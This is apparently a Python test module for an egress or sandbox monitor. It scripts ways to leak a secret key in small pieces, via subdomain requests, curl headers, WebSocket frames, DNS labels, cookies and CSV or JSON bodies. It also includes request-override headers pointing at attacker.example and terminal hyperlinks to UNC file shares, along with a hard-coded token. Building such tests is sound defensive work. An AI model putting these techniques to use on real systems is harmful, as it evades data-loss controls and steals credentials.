"""Values in pieces, none of which says anything: over hosts, connections, frames, names and the places of a head; and what goes on
after one piece was refused."""
import base64
import codecs
import re

from attempts_escape import terminal_bare_of, terminal_cell_of
from attempts_network import KEY, WILD
from case import Attempt
from network import NetAttempt

# Hosts below one domain, by which their owner is known.
OWNED = '{ host = "*.carrier.example", inspect = true }'
TENANTS = '{ host = "multi.example", inspect = true }'
TOKEN = "ghp_8Xk2mQvR7tLw5nZc3bYd9fHj4sGa6pTe1uVo"
PIECE = 5


def cut(text, length=PIECE):
    return [text[n:n + length] for n in range(0, len(text), length)]


def lines(outcome):
    """Every line that arrived, of heads and of bodies."""
    return [line for r in outcome.reached if r["kind"] == "data" for line in r["data"].split(b"\r\n")]


def each(*patterns, value=KEY.decode()):
    """All pieces of the value arrived in the same kind of place."""
    def effect(outcome):
        said = b"\n".join(lines(outcome))
        found = [set(re.findall(pattern.encode(), said)) for pattern in patterns]
        return any(all(piece.encode() in pieces for piece in cut(value)) for pieces in found)
    return effect


def framed(outcome):
    """All pieces of the key in frames, behind the code of one that closes or as they are."""
    said = [r["data"] for r in outcome.reached if r["kind"] == "data"]
    return any(all(before + piece.encode() in said for piece in cut(KEY.decode())) for before in (b"", b"\x03\xe8"))


def named(outcome):
    """All pieces of the key in names."""
    labels = {label for r in outcome.reached if r["kind"] == "query" for label in r["data"].split(b".")}
    return all(piece.lower().encode() in labels for piece in cut(KEY.decode()))


def goes_on(outcome):
    """Several pieces of the second half of a token, behind one that was refused."""
    said = b"\n".join(lines(outcome))
    return any(sum(piece in re.findall(pattern, said) for piece in half) > 1 for pattern, half in HALVES)


def turned_about(outcome):
    """A head that makes another request of this one arrived."""
    heads = b"\n".join(lines(outcome)).lower().replace(b"_", b"-")
    return any(name in heads for name in (b"method-override:", b"\nforwarded: host=", b"x-forwarded-uri:", b"x-original-url:", b"x-rewrite-url:"))


HEADS = """
def head(*given, first="GET / HTTP/1.1", body=""):
    # What is said in one request of a connection of its own.
    length = [f"Content-Length: {len(body)}"] if body else []
    talk("inspected.example", 80, "\\r\\n".join([first, "Host: inspected.example", *given, *length, "", body]))
"""

FRAMES = """
def frames(host, *said):
    # Frames of one conversation: their first byte and what is in them.
    mark()
    try:
        with socket.create_connection((host, 80)) as s:
            s.settimeout(3)
            s.sendall((f"GET /talk HTTP/1.1\\r\\nHost: {host}\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Version: 13\\r\\n"
                       "Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\\r\\n\\r\\n").encode())
            print(s.recv(4096).split(b"\\r\\n")[0])
            for first, data in said:
                s.sendall(bytes([first, 128 | len(data)]) + b"\\1\\2\\3\\4" + bytes(b ^ (n % 4 + 1) for n, b in enumerate(data)))
                time.sleep(0.1)
            s.recv(4096)
    except OSError as e:
        print("no:", type(e).__name__, e)
"""

# The token in each coding.
CODINGS = (TOKEN, base64.b64encode(TOKEN.encode()).decode(), TOKEN.encode().hex(), codecs.encode(TOKEN, "rot13"))


def halves():
    """What arrives of each coding, and the pieces of its second half."""
    found = []
    for n, text in enumerate(CODINGS):
        half = [piece.encode() for piece in cut(text)[len(cut(text)) // 2 + 1:]]
        found += [(b"(?i)X-Way%d: (.*)" % n, half), (b"way%d=([^&\n]*)" % n, half)]
    return found


HALVES = halves()

LINKS = """
# What a click on each opens: a server's share, whose name carries the word; a path read twice; half a character that some read on.
for address in ("file:////server/CANARY", "file://server/share", "file://localhost//server/CANARY", "file:///%2fserver/CANARY", "file:///x/..%5c%5cserver"):
    sys.stdout.write(f"\\x1b]8;;{address}\\x1b\\\\click\\x1b]8;;\\x1b\\\\\\n")
sys.stdout.flush()
sys.stdout.buffer.write(b"\\xe2\\x1b]8;;file:////server/\\xc0\\xaf\\x1b\\\\click\\n")
print()
print("attempt made")
"""
LINKED = Attempt(59, "links to files of this machine that lead to a server", "", LINKS, twin=False, ends="attempt made",
                 effect=lambda o: re.search(r"\x1b\]8;[^;]*;file:[^\x1b]*server", o.text) is not None)
LINKED.bare = lambda place: terminal_bare_of(LINKED, place)
LINKED.cell = lambda product, place: terminal_cell_of(LINKED, product, place)

ATTEMPTS = [
    NetAttempt(8, "a key in pieces, each to another host of one owner", "T1030|T1041", """
for n, piece in enumerate(pieces(KEY, 5)):
    web(f"http://a{n}.carrier.example/", headers={"X-Trace": piece})
for n, piece in enumerate(pieces(KEY, 5)):
    web(f"http://b{n}.carrier.example/in", "note=" + piece)
for n, piece in enumerate(pieces(KEY, 5)):
    web(f"https://c{n}.carrier.example/{piece}/page")
""", allow=[OWNED], rule="secret_leaves", effect=each(r"(?i)X-Trace: (\w*)", r"note=(\w*)", r"GET /(\w*)/page")),
    NetAttempt(8, "a key in pieces, a connection of HTTP/2 each", "T1030|T1041", """
for n, piece in enumerate(pieces(KEY, 5)):
    run("curl", "-sSk", "--http2", "-m", "5", "-o", "/dev/null", "-H", "X-Trace: " + piece, "https://inspected.example/")
for n, piece in enumerate(pieces(KEY, 5)):
    run("curl", "-sSk", "--http2", "-m", "5", "-o", "/dev/null", "--data", "note=" + piece, "https://inspected.example/in")
""", rule="secret_leaves", effect=each(r"(?i)X-Trace: (\w*)", r"note=(\w*)")),
    NetAttempt(9, "a key in pieces, in frames of every kind", "T1041", FRAMES + """
for piece in pieces(KEY, 5):
    frames("inspected.example", (0x88, b"\\x03\\xe8" + piece.encode()))
for piece in pieces(KEY, 5):
    frames("inspected.example", (0x89, piece.encode()))
frames("inspected.example", *[(0x81, piece.encode()) for piece in pieces(KEY, 5)])
first, *middle, last = [piece.encode() for piece in pieces(KEY, 5)]
frames("inspected.example", (0x01, first), *[(0x00, piece) for piece in middle], (0x80, last))
""", rule="secret_leaves", effect=framed),
    NetAttempt(10, "a key in pieces, over the labels of names", "T1071.004", """
for n, piece in enumerate(pieces(KEY.lower(), 5)):
    query(f"x{n}.{piece}.carrier.example")
for n, piece in enumerate(pieces(KEY.lower(), 5)):
    query(f"{piece}.x{n}.carrier.example")
query(".".join(pieces(KEY.lower(), 5)) + ".carrier.example")
""", allow=[WILD], rule="dns_tunnel", effect=named),
    NetAttempt(29, "a key in pieces, over the places of heads", "T1041", HEADS + """
for piece in pieces(KEY, 5):
    head(first=f"GET /page;v={piece} HTTP/1.1")
for piece in pieces(KEY, 5):
    head(f"Cookie: {piece}=1")
for piece in pieces(KEY, 5):
    head(f"X-Seen: from <{piece}> to 7")
head("Cookie: " + "; ".join(f"k{n}={piece}" for n, piece in enumerate(pieces(KEY, 5))))
""", rule="secret_leaves", effect=each(r"page;v=(\w*)", r"(?i)cookie: (\w*)=1", r"from <(\w*)>", r"k\d=(\w*)")),
    NetAttempt(29, "a key in pieces, over the records of a body", "T1041", """
rows = "".join(f"{n},{piece},none\\n" for n, piece in enumerate(pieces(KEY, 5)))
web("http://inspected.example/in", "number,cell,more\\n" + rows, {"Content-Type": "text/csv"})
documents = "[" + ",".join('{"id": %d, "cell": "%s", "kind": "x"}' % (n, piece) for n, piece in enumerate(pieces(KEY, 5))) + "]"
web("http://inspected.example/in", documents, {"Content-Type": "application/json"})
""", rule="secret_leaves", effect=each(r"\d,(\w*),none", r'"cell": "(\w*)"')),
    # Whoever is refused one piece may not go on behind it.
    NetAttempt(29, "the rest of a token after a piece was refused", "T1041", HEADS + f"""
for n, text in enumerate({CODINGS!r}):
    for piece in pieces(text, {PIECE}):
        head(f"X-Way{{n}}: {{piece}}")
    for piece in pieces(text, {PIECE}):
        head(first="POST /in HTTP/1.1", body=f"way{{n}}={{piece}}")
""", rule="secret_leaves", effect=goes_on, limit=150),
    NetAttempt(22, "a head that makes another request of it, in every spelling", "T1071.001|T1041", """
for name, value in (("X-HTTP-Method-Override", "DELETE"), ("X_HTTP_METHOD_OVERRIDE", "DELETE"), ("x-method_override", "PUT"), ("Forwarded", "host=attacker.example"),
                    ("X-Forwarded-Uri", "/other"), ("X_Forwarded_Uri", "/other"), ("X-Original-URL", "/other"), ("X_REWRITE_URL", "/other")):
    talk("multi.example", 80, f"GET /mine/x HTTP/1.1\\r\\nHost: multi.example\\r\\n{name}: {value}\\r\\n\\r\\n")
""", allow=[TENANTS], rule="bad_request", alert=False, effect=turned_about),
    LINKED,
]
